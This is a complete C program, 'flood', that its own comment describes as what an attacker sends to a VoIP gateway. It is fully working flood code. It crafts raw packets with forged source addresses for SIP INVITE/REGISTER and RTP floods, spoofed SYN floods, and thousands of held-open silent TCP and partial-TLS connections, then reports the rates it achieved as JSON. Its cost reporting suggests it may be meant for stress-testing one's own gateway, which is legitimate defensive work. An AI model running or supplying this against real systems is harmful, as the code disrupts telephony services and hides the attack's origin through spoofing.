/* flood - what an attacker sends to a gateway: SIP, RTP and half-open connections, one thread.
 *
 *   gcc -O2 -o flood flood.c
 *
 *   flood [-t secs] [-s sip/s] [-r rtp/s] [-c connections/s] [-l port] [-m first-last] ADDRESS:PORT OWN/BITS FORGED/BITS
 *
 * SIP datagrams are by turns an INVITE with SDP, a REGISTER and noise. A third
 * of them comes from ten addresses of OWN, a third from a thousand of FORGED, a
 * third from any of FORGED. RTP comes from any of FORGED to any even port of the
 * range. Of the connections one half is a SYN from FORGED that nothing follows,
 * the other half is opened from OWN and says nothing; they are closed when there
 * are 8,000 of them, the oldest first. With -l every other of both goes to this
 * port of TLS, where one that is open says the beginning of a ClientHello.
 *
 * Needs CAP_NET_RAW, and all of OWN as local addresses. At the end it says as
 * JSON what it has sent and what that has cost.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define SIZE 1024
#define OPEN 8000
#define STEP_NS 1000000L

static uint32_t to, own, own_mask, forged, forged_mask;
static uint16_t to_port, tls_port, first_port = 10000, last_port = 19999;
static uint64_t seed = 0x9E3779B97F4A7C15u;
static volatile sig_atomic_t ends;

static int raw;
static uint8_t octets[BATCH][SIZE];
static struct iovec vectors[BATCH];
static struct mmsghdr messages[BATCH];
static struct sockaddr_in target;
static int filled;

static int open_fds[OPEN], open_at, begun_tls = -1;

/* A record of 512 octets with a ClientHello, of which these come. */
static const uint8_t hello[] = { 22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3 };
static uint64_t sent_sip, sent_rtp, sent_syn, sent_connect, sent_hello, failed_connect, lost;

static uint32_t any(void)
{
    seed ^= seed << 13;
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return (uint32_t)(seed >> 16);
}

static uint32_t of(uint32_t net, uint32_t mask, uint32_t host) { return net | (host & ~mask); }

static void block(const char *text, uint32_t *net, uint32_t *mask)
{
    char copy[64];
    snprintf(copy, sizeof copy, "%s", text);
    char *slash = strchr(copy, '/');
    if (!slash) { fprintf(stderr, "flood: %s is no block\n", text); exit(2); }
    *slash = 0;
    *mask = (uint32_t)(0xFFFFFFFFul << (32 - atoi(slash + 1)));
    *net = ntohl(inet_addr(copy)) & *mask;
}

static void flush(void)
{
    for (int at = 0; at < filled;) {
        int n = sendmmsg(raw, messages + at, filled - at, 0);
        if (n < 0) { lost++; n = 1; }
        at += n;
    }
    filled = 0;
}

/* Room for the payload of a datagram; put() sends it. */
static char *payload(void) { return (char *)octets[filled] + sizeof(struct iphdr) + sizeof(struct udphdr); }

static void head(uint8_t protocol, uint32_t source, int length)
{
    struct iphdr *ip = (struct iphdr *)octets[filled];
    *ip = (struct iphdr){ .version = 4, .ihl = 5, .tot_len = htons(length), .ttl = 64, .protocol = protocol, .saddr = htonl(source), .daddr = htonl(to) };
    vectors[filled].iov_len = length;
    if (++filled == BATCH) flush();
}

static void put(uint32_t source, uint16_t source_port, uint16_t port, int length)
{
    struct udphdr *udp = (struct udphdr *)(octets[filled] + sizeof(struct iphdr));
    *udp = (struct udphdr){ .source = htons(source_port), .dest = htons(port), .len = htons(length + sizeof *udp) };
    head(IPPROTO_UDP, source, sizeof(struct iphdr) + sizeof *udp + length);
}

static void sip(void)
{
    uint32_t turn = (uint32_t)(sent_sip++), number = any();
    uint32_t source = turn / 3 % 3 == 0 ? of(own, own_mask, 10 + number % 10) : of(forged, forged_mask, turn / 3 % 3 == 1 ? 1 + number % 1000 : number);
    struct in_addr in = { htonl(source) };
    char from[INET_ADDRSTRLEN], *text = payload();
    const char *gateway;
    char here[INET_ADDRSTRLEN];
    int length, room = SIZE - 28;
    inet_ntop(AF_INET, &in, from, sizeof from);
    gateway = inet_ntop(AF_INET, &(struct in_addr){ htonl(to) }, here, sizeof here);
    if (turn % 3 == 0) {
        static const char body[] = "v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\nm=audio 4000 RTP/AVP 8\r\na=sendrecv\r\n";
        length = snprintf(text, room, "INVITE sip:%u@%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK%08x%08x\r\nMax-Forwards: 70\r\n"
            "From: \"100\" <sip:100@%s>;tag=%08x\r\nTo: <sip:%u@%s>\r\nCall-ID: %08x%08x\r\nCSeq: 1 INVITE\r\nContact: <sip:100@%s:5060>\r\n"
            "User-Agent: Z 5.6\r\nContent-Type: application/sdp\r\nContent-Length: %zu\r\n\r\n%s",
            900000000u + number % 99999999, gateway, from, number, turn, from, number, number, gateway, turn, number, from, sizeof body - 1, body);
    } else if (turn % 3 == 1) {
        length = snprintf(text, room, "REGISTER sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK%08x%08x\r\nMax-Forwards: 70\r\n"
            "From: <sip:%u@%s>;tag=%08x\r\nTo: <sip:%u@%s>\r\nCall-ID: %08x%08x\r\nCSeq: 1 REGISTER\r\nContact: <sip:%u@%s:5060>\r\nExpires: 3600\r\nContent-Length: 0\r\n\r\n",
            gateway, from, number, turn, number % 1000, gateway, number, number % 1000, gateway, turn, number, number % 1000, from);
    } else {
        length = 20 + number % 300;
        for (int at = 0; at < length; at += 4) { uint32_t noise = any(); memcpy(text + at, &noise, 4); }
    }
    put(source, 5060, to_port, length < room ? length : room - 1);
}

static void rtp(void)
{
    uint8_t *packet = (uint8_t *)payload();
    uint32_t number = any();
    uint16_t sequence = htons((uint16_t)sent_rtp++);
    memset(packet, 0xD5, 172);
    packet[0] = 0x80;
    packet[1] = 8;
    memcpy(packet + 2, &sequence, 2);
    memcpy(packet + 8, &number, 4);
    put(of(forged, forged_mask, number), 10000 + number % 50000, first_port + 2 * (any() % ((last_port - first_port + 1) / 2)), 172);
}

static uint16_t checksum(uint32_t source, const struct tcphdr *tcp)
{
    uint32_t sum = (source >> 16) + (source & 0xFFFF) + (to >> 16) + (to & 0xFFFF) + IPPROTO_TCP + sizeof *tcp;
    const uint16_t *words = (const uint16_t *)tcp;
    for (unsigned at = 0; at < sizeof *tcp / 2; at++) sum += ntohs(words[at]);
    sum = (sum >> 16) + (sum & 0xFFFF);
    return htons((uint16_t)~(sum + (sum >> 16)));
}

static uint16_t port_of(uint64_t turn)
{
    return tls_port && (turn & 1) ? tls_port : to_port;
}

static void syn(void)
{
    uint32_t source = of(forged, forged_mask, any());
    struct tcphdr *tcp = (struct tcphdr *)(octets[filled] + sizeof(struct iphdr));
    *tcp = (struct tcphdr){ .source = htons(1024 + any() % 60000), .dest = htons(port_of(sent_syn)), .seq = any(), .doff = 5, .syn = 1, .window = htons(65535) };
    tcp->check = checksum(source, tcp);
    sent_syn++;
    head(IPPROTO_TCP, source, sizeof(struct iphdr) + sizeof *tcp);
}

static void silent(void)
{
    struct sockaddr_in from = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(of(own, own_mask, 1 + any() % 250)) };
    struct linger linger = { 1, 0 };
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) { failed_connect++; return; }
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    struct sockaddr_in there = target;
    uint16_t port = port_of(sent_connect);
    there.sin_port = htons(port);
    if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0 || (connect(fd, (struct sockaddr *)&there, sizeof there) < 0 && errno != EINPROGRESS)) {
        failed_connect++;
        close(fd);
        return;
    }
    sent_connect++;
    if (open_fds[open_at]) close(open_fds[open_at]);
    open_fds[open_at] = fd;
    open_at = (open_at + 1) % OPEN;
    /* The last one stands by now; this one does not yet. */
    if (begun_tls >= 0 && send(begun_tls, hello, sizeof hello, MSG_NOSIGNAL) == sizeof hello) sent_hello++;
    begun_tls = port == tls_port ? fd : -1;
}

static double now(void)
{
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return at.tv_sec + at.tv_nsec / 1e9;
}

static void on_signal(int number) { (void)number; ends = 1; }

int main(int argc, char **argv)
{
    double seconds = 10, sips = 30000, rtps = 20000, connections = 1000;
    int option;
    while ((option = getopt(argc, argv, "t:s:r:c:l:m:")) != -1) {
        if (option == 't') seconds = atof(optarg);
        else if (option == 's') sips = atof(optarg);
        else if (option == 'r') rtps = atof(optarg);
        else if (option == 'c') connections = atof(optarg);
        else if (option == 'l') tls_port = (uint16_t)atoi(optarg);
        else if (option == 'm' && sscanf(optarg, "%hu-%hu", &first_port, &last_port) == 2) continue;
        else return 2;
    }
    char *colon = argc - optind == 3 ? strchr(argv[optind], ':') : NULL;
    if (!colon) { fprintf(stderr, "flood [-t secs] [-s sip/s] [-r rtp/s] [-c connections/s] [-l port] [-m first-last] ADDRESS:PORT OWN/BITS FORGED/BITS\n"); return 2; }
    *colon = 0;
    to = ntohl(inet_addr(argv[optind]));
    to_port = (uint16_t)atoi(colon + 1);
    block(argv[optind + 1], &own, &own_mask);
    block(argv[optind + 2], &forged, &forged_mask);
    struct rlimit files = { OPEN + 100, OPEN + 100 };
    setrlimit(RLIMIT_NOFILE, &files);
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (raw < 0) { perror("flood: raw socket"); return 1; }
    int room = 4 << 20;
    setsockopt(raw, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room);
    target = (struct sockaddr_in){ .sin_family = AF_INET, .sin_addr.s_addr = htonl(to) };
    for (int at = 0; at < BATCH; at++) {
        vectors[at].iov_base = octets[at];
        messages[at].msg_hdr = (struct msghdr){ .msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &vectors[at], .msg_iovlen = 1 };
    }
    double begun = now(), passed = 0;
    while (!ends && (passed = now() - begun) < seconds) {
        /* After a pause not all that is missing is sent at once: no more than 20 ms of it. */
        for (int n = 0; sent_sip < passed * sips && n < sips / 50; n++) sip();
        for (int n = 0; sent_rtp < passed * rtps && n < rtps / 50; n++) rtp();
        for (int n = 0; sent_syn + sent_connect + failed_connect < passed * connections && n < connections / 50; n++) (any() & 1) ? syn() : silent();
        flush();
        nanosleep(&(struct timespec){ 0, STEP_NS }, NULL);
    }
    struct rusage used;
    getrusage(RUSAGE_SELF, &used);
    printf("{\"seconds\": %.2f, \"sip\": %lu, \"rtp\": %lu, \"syn\": %lu, \"connected\": %lu, \"hellos\": %lu, \"not_connected\": %lu, \"not_sent\": %lu, \"cpu\": %.2f}\n",
        passed, sent_sip, sent_rtp, sent_syn, sent_connect, sent_hello, failed_connect, lost,
        used.ru_utime.tv_sec + used.ru_stime.tv_sec + (used.ru_utime.tv_usec + used.ru_stime.tv_usec) / 1e6);
    return 0;
}
